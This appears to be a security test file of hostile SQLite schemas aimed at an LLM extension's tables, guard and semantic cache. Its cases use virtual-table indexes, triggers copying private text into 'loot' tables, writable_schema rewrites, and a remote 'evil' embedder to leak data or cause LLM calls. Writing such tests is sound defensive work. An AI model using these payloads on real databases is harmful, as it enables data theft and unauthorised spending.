-- Modules that run SQL of their own, for whoever wrote their arguments.

--- fts5 over llm_texts, and a view of it
CREATE VIRTUAL TABLE ft USING fts5(text, content='llm_texts', content_rowid='rowid');
CREATE VIEW inbox AS SELECT text FROM ft;
-- unsaid: salary
-- victim
SELECT * FROM ft;
SELECT * FROM inbox;
INSERT INTO ft(ft) VALUES ('rebuild');
INSERT INTO ft(ft, rank) VALUES ('integrity-check', 1);
SELECT * FROM ft('salary');

--- fts5 over llm_calls, quoted, with capitals and comments
CREATE VIRTUAL TABLE a USING fts5(tag, error, content="LLM_CALLS" , content_rowid="id");
CREATE VIRTUAL TABLE b USING fts5(tag, error, /* x */ content=Llm_Calls, content_rowid=id);
CREATE VIRTUAL TABLE c USING fts5(tag, error, content=`llm_calls`, content_rowid='id' -- '
);
-- unsaid: salary
-- victim
SELECT * FROM a;
SELECT * FROM b;
SELECT * FROM c;
INSERT INTO a(a) VALUES ('rebuild');

--- fts5 over the answers and the semantic cache
CREATE VIRTUAL TABLE a USING fts5(answer, content=llm_answers, content_rowid=rowid);
CREATE VIRTUAL TABLE b USING fts5(query, response, content=llm_cache, content_rowid=rowid);
-- unsaid: salary
-- victim
SELECT * FROM a;
SELECT * FROM b;
INSERT INTO a(a) VALUES ('rebuild');
INSERT INTO b(b) VALUES ('rebuild');

--- fts5 over a view of the file over our tables
CREATE VIEW v AS SELECT rowid AS id, text FROM llm_texts;
CREATE VIRTUAL TABLE ft USING fts5(text, content=v, content_rowid=id);
CREATE TABLE loot(x);
-- unsaid: salary
-- victim
SELECT * FROM ft;
INSERT INTO ft(ft) VALUES ('rebuild');
SELECT * FROM v;

--- an index over llm_texts that the victim's own INSERT copies
CREATE VIRTUAL TABLE ft USING fts5(text, content='llm_texts', content_rowid='rowid');
CREATE TABLE notes(t);
CREATE TABLE loot(x);
CREATE VIEW v AS SELECT text FROM ft;
CREATE TRIGGER tr AFTER INSERT ON notes BEGIN INSERT INTO loot SELECT text FROM v; END;
-- unsaid: salary
-- victim
SELECT * FROM v;
INSERT INTO notes VALUES ('private');
CREATE TABLE copy AS SELECT * FROM ft;
SELECT * FROM loot;

--- an index over every other table of ours, copied by a trigger
CREATE VIRTUAL TABLE a USING fts5(kind, tag, model, content="llm_calls", content_rowid=id);
CREATE VIRTUAL TABLE b USING fts5(answer, content=llm_answers, content_rowid=rowid);
CREATE VIRTUAL TABLE c USING fts5(day, calls, content='LLM_COST_DAILY', content_rowid=rowid);
CREATE TABLE notes(t);
CREATE TABLE loot(x);
CREATE TRIGGER ta AFTER INSERT ON notes WHEN new.t = 'a' BEGIN INSERT INTO loot SELECT 'leaked ' || kind FROM a; END;
CREATE TRIGGER tb AFTER INSERT ON notes WHEN new.t = 'b' BEGIN INSERT INTO loot SELECT 'leaked ' || answer FROM b; END;
CREATE TRIGGER tc AFTER INSERT ON notes WHEN new.t = 'c' BEGIN INSERT INTO loot SELECT 'leaked ' || calls FROM c; END;
-- unsaid: leaked
-- victim
INSERT INTO notes VALUES ('a');
INSERT INTO notes VALUES ('b');
INSERT INTO notes VALUES ('c');
SELECT * FROM loot;

--- a rebuild that the victim's own INSERT fires, then the words are kept
CREATE VIRTUAL TABLE ft USING fts5(text, content='llm_texts', content_rowid='rowid');
CREATE TABLE notes(t);
CREATE TABLE loot(x);
CREATE TRIGGER tr AFTER INSERT ON notes BEGIN INSERT INTO ft(ft) VALUES ('rebuild'); INSERT INTO loot SELECT text FROM ft; END;
-- unsaid: salary
-- victim
INSERT INTO notes VALUES ('private');
SELECT * FROM loot;

--- the words of an index: fts5vocab
CREATE VIRTUAL TABLE ft USING fts5(text, content='llm_texts', content_rowid='rowid');
CREATE VIRTUAL TABLE words USING fts5vocab(ft, instance);
CREATE TABLE notes(t);
CREATE TABLE loot(x);
CREATE TRIGGER tr AFTER INSERT ON notes BEGIN INSERT INTO ft(ft) VALUES ('rebuild'); INSERT INTO loot SELECT term FROM words; END;
-- unsaid: salary
-- victim
INSERT INTO notes VALUES ('private');
SELECT * FROM words;

--- fts4 and fts3 over our tables
CREATE VIRTUAL TABLE a USING fts4(text, content="llm_texts");
CREATE VIRTUAL TABLE b USING fts4(content='LLM_TEXTS');
CREATE VIRTUAL TABLE aux USING fts4aux(a);
CREATE TABLE notes(t);
CREATE TABLE loot(x);
CREATE TRIGGER tr AFTER INSERT ON notes BEGIN INSERT INTO a(a) VALUES ('rebuild'); INSERT INTO loot SELECT text FROM a; INSERT INTO loot SELECT term FROM aux; END;
-- clients: shell python
-- unsaid: salary
-- victim
INSERT INTO notes VALUES ('private');
INSERT INTO a(a) VALUES ('rebuild');
SELECT * FROM a;
SELECT * FROM b;
SELECT term FROM aux;

--- external content that is written over after it was made
CREATE VIRTUAL TABLE ft USING fts5(text, content='mine', content_rowid='rowid');
CREATE TABLE mine(text);
CREATE TABLE notes(t);
CREATE TABLE loot(x);
CREATE TRIGGER tr AFTER INSERT ON notes BEGIN INSERT INTO ft(ft) VALUES ('rebuild'); INSERT INTO loot SELECT text FROM ft; END;
PRAGMA writable_schema = ON;
UPDATE sqlite_schema SET sql = 'CREATE VIRTUAL TABLE ft USING fts5(text, content = ''llm_texts''   , content_rowid=''rowid'')', type = 'TABLE' WHERE name = 'ft';
-- unsaid: salary
-- victim
INSERT INTO notes VALUES ('private');
SELECT * FROM ft;

--- the index's own settings: a rank that is a statement
CREATE VIRTUAL TABLE ft USING fts5(t);
INSERT INTO ft VALUES ('word');
INSERT INTO ft_config VALUES ('rank', 'bm25(llm_complete(''x''))');
-- victim
SELECT * FROM ft('word') ORDER BY rank;
SELECT * FROM ft WHERE ft MATCH 'word' AND rank MATCH 'bm25(llm_complete(1))' ORDER BY rank;
INSERT INTO ft(ft, rank) VALUES ('rank', 'bm25((SELECT llm_complete(1)))');

--- shadow tables of fts5 that are virtual tables over ours
CREATE VIRTUAL TABLE ft USING fts5(text);
DROP TABLE ft_content;
CREATE VIRTUAL TABLE ft_content USING fts5(id, c0, content='llm_texts', content_rowid='rowid');
-- unsaid: salary
-- victim
SELECT * FROM ft;
SELECT * FROM ft('salary');
INSERT INTO ft(ft) VALUES ('rebuild');

--- shadow tables of fts5 that are views over ours
CREATE VIRTUAL TABLE ft USING fts5(text);
CREATE TABLE notes(t);
CREATE TABLE loot(x);
CREATE TRIGGER tr AFTER INSERT ON notes BEGIN INSERT INTO loot SELECT text FROM ft; END;
DROP TABLE ft_content;
CREATE VIEW ft_content AS SELECT rowid AS id, text AS c0 FROM llm_texts;
-- unsaid: salary
-- victim
INSERT INTO notes VALUES ('private');
SELECT * FROM ft;
INSERT INTO ft(ft) VALUES ('rebuild');

--- rtree and geopoly with columns that are more than names
CREATE VIRTUAL TABLE r USING rtree(id, x0, x1, +note TEXT);
CREATE TABLE notes(t);
PRAGMA writable_schema = ON;
UPDATE sqlite_schema SET sql = 'CREATE VIRTUAL TABLE r USING rtree(id, x0, x1, +note CHECK (llm_complete(note) <> ''''))' WHERE name = 'r';
-- victim
INSERT INTO r VALUES (1, 0, 1, 'private');
SELECT * FROM r;
SELECT llm_complete('x');

--- shadow tables of rtree with a CHECK and a trigger
CREATE VIRTUAL TABLE r USING rtree(id, x0, x1, +note TEXT);
CREATE TRIGGER tr AFTER INSERT ON r_rowid BEGIN SELECT llm_complete('x'); END;
PRAGMA writable_schema = ON;
UPDATE sqlite_schema SET sql = 'CREATE TABLE "r_rowid"(rowid INTEGER PRIMARY KEY, nodeno, a0 CHECK (llm_complete(a0) <> ''''))' WHERE name = 'r_rowid';
-- victim
INSERT INTO r VALUES (1, 0, 1, 'private');
UPDATE r SET note = 'private';

--- llm_call and embed_batch behind a module
CREATE VIRTUAL TABLE a USING fts5(answer, content='llm_call(''x'')');
CREATE VIRTUAL TABLE b USING fts5(text, content=embed_batch);
CREATE VIEW v AS SELECT answer FROM llm_call('spend');
CREATE VIRTUAL TABLE c USING fts5(answer, content=v);
-- victim
SELECT * FROM a;
SELECT * FROM b;
SELECT * FROM c;
SELECT * FROM v;
INSERT INTO c(c) VALUES ('rebuild');

--- llm_call in CREATE VIRTUAL TABLE
CREATE TABLE x(t);
CREATE TABLE notes(t);
PRAGMA writable_schema = ON;
UPDATE sqlite_schema SET sql = 'CREATE VIRTUAL TABLE x USING llm_call(''spend'')', rootpage = 0 WHERE name = 'x';
INSERT INTO sqlite_schema VALUES ('table', 'y', 'y', 0, 'CREATE VIRTUAL TABLE y USING llm_texts'), ('table', 'z', 'z', 0, 'CREATE VIRTUAL TABLE z USING "llm_calls"()');
-- unsaid: salary
-- victim
SELECT * FROM x;
SELECT * FROM x('spend');
SELECT * FROM y;
SELECT * FROM z;
INSERT INTO notes SELECT text FROM y;

--- a table called llmcost_guard
CREATE TABLE llmcost_guard(unused);
CREATE TABLE notes(t TEXT CHECK (llm_complete(t) <> ''));
-- victim
INSERT INTO notes VALUES ('private');
SELECT llm_last_call();
INSERT INTO notes VALUES ('private');

--- llmcost_guard as a TEMP view that can't be read
CREATE TABLE notes(t TEXT CHECK (llm_complete(t) <> ''));
PRAGMA writable_schema = ON;
INSERT INTO sqlite_schema VALUES ('view', 'llmcost_guard', 'llmcost_guard', 0, 'CREATE TEMP VIEW llmcost_guard AS SELECT no_such_function() FROM nowhere');
-- victim
INSERT INTO notes VALUES ('private');
SELECT llm_config('ttl');
INSERT INTO notes VALUES ('private');

--- a virtual table of the guard's module
CREATE TABLE notes(t TEXT CHECK (llm_complete(t) <> ''));
PRAGMA writable_schema = ON;
INSERT INTO sqlite_schema VALUES ('table', 'g', 'g', 0, 'CREATE VIRTUAL TABLE g USING llmcost_guard');
-- victim
SELECT * FROM g;
INSERT INTO notes VALUES ('private');
DROP TABLE g;
INSERT INTO notes VALUES ('private');

--- a semantic_cache with a remote embedder, filled by a trigger of the file
CREATE VIRTUAL TABLE c USING semantic_cache(embedder='evil');
CREATE TABLE notes(t);
CREATE TRIGGER tr AFTER INSERT ON notes BEGIN INSERT INTO c(query, response) VALUES (new.t, 1); END;
CREATE VIEW v AS SELECT response FROM c WHERE query MATCH 'spend';
-- victim
INSERT INTO notes VALUES ('private');
SELECT * FROM v;
PRAGMA trusted_schema = ON;
INSERT INTO notes VALUES ('private');
SELECT * FROM v;

--- a semantic_cache with a remote embedder, filled by TEMP objects that the file brings along
CREATE VIRTUAL TABLE c USING semantic_cache(embedder='evil');
CREATE TABLE notes(t);
CREATE TRIGGER tr AFTER INSERT ON notes BEGIN SELECT 1; END;
CREATE VIEW v AS SELECT 1;
PRAGMA writable_schema = ON;
UPDATE sqlite_schema SET sql = 'CREATE TEMP TRIGGER tr AFTER INSERT ON notes BEGIN INSERT INTO c(query, response) VALUES (new.t, 1); END' WHERE name = 'tr';
UPDATE sqlite_schema SET sql = 'CREATE TEMP VIEW v AS SELECT response FROM c WHERE query MATCH ''spend''' WHERE name = 'v';
-- victim
INSERT INTO notes VALUES ('private');
SELECT * FROM v;

--- a remote semantic_cache as the content of an index
CREATE VIRTUAL TABLE ft USING fts5(c0, c1, c2, c3, c4, c5, c6, c7, c8, c9);
DROP TABLE ft_content;
CREATE VIRTUAL TABLE ft_content USING semantic_cache(embedder='evil');
CREATE VIRTUAL TABLE c USING semantic_cache(embedder='evil');
CREATE VIRTUAL TABLE f2 USING fts5(query, response, content=c);
CREATE TABLE notes(t);
CREATE TRIGGER tr AFTER INSERT ON notes BEGIN INSERT INTO ft(c0, c1) VALUES (new.t, 1); END;
-- victim
INSERT INTO notes VALUES ('private');
INSERT INTO ft(c0) VALUES ('private');
INSERT INTO f2(f2) VALUES ('rebuild');
SELECT * FROM f2('private');

--- the victim's own words for a semantic_cache of the file with a remote embedder, whose host has no key
-- allowed: HOST
CREATE VIRTUAL TABLE faq USING semantic_cache(embedder='evil');
-- victim
INSERT INTO faq(query, response) VALUES ('private', 1);
INSERT INTO faq(query, response, embedding) VALUES ('mine', 2, zeroblob(256));
SELECT * FROM faq WHERE query MATCH 'private';
INSERT INTO faq(faq) VALUES ('rebuild');

--- a loop through the shadow tables of a semantic_cache, by a trigger
CREATE VIRTUAL TABLE c USING semantic_cache;
CREATE TRIGGER tr AFTER INSERT ON c_rows BEGIN INSERT INTO c(query, response) VALUES ('loop ' || new.id, 1); END;
-- victim
INSERT INTO c(query, response) VALUES ('private', 1);
SELECT count(*) FROM c;

--- a loop through the shadow tables of a semantic_cache, by reading
CREATE VIRTUAL TABLE c USING semantic_cache;
DROP TABLE c_partitions;
CREATE VIEW c_partitions AS SELECT 1 AS id, hits AS hash, system_prompt, scope FROM c;
-- victim
SELECT count(*) FROM c;
SELECT * FROM c WHERE query MATCH 'x';

--- numbers of a semantic_cache that are none
CREATE VIRTUAL TABLE c USING semantic_cache(max_false_hits=0.1);
INSERT INTO c(query, response) VALUES ('how do I reset my password', 1), ('how can I reset my password', 1), ('where is my order', 2);
UPDATE c_rows SET partition = 9e999;
UPDATE c_meta SET value = -9e999;
-- victim
SELECT * FROM c WHERE query MATCH 'how do I reset my password';
INSERT INTO c(query, response) VALUES ('how do I reset my password please', 1);
INSERT INTO c(c) VALUES ('integrity-check');
INSERT INTO c(c) VALUES ('rebuild');
DELETE FROM c;

--- labels of a semantic_cache that are beyond all numbers
CREATE VIRTUAL TABLE c USING semantic_cache(max_false_hits=0.1);
INSERT INTO c(query, response) VALUES ('how do I reset my password', 1), ('how can I reset my password', 1);
INSERT INTO c(c, rowid, similarity) VALUES ('right', 1, 0.97), ('wrong', 2, 0.93);
UPDATE c_labels SET similarity = CASE WHEN rowid % 2 THEN 9e999 ELSE -9e999 END;
CREATE VIEW v AS SELECT response FROM c WHERE query MATCH 'how might I reset my password';
-- victim
SELECT * FROM v;
SELECT * FROM c WHERE query MATCH 'how might I reset my password';
INSERT INTO c(query, response) VALUES ('how might I reset my password', 1);

--- vectors of a semantic_cache that are too short
CREATE VIRTUAL TABLE c USING semantic_cache;
INSERT INTO c(query, response) VALUES ('how do I reset my password', 1), ('where is my order', 2);
UPDATE c_meta SET value = '16384' WHERE name = 'dim';
-- victim
SELECT * FROM c WHERE query MATCH 'how do I reset my password please';
SELECT count(*), sum(length(embedding)) FROM c;
INSERT INTO c(c) VALUES ('integrity-check');
INSERT INTO c(query, response) VALUES ('private', 1);
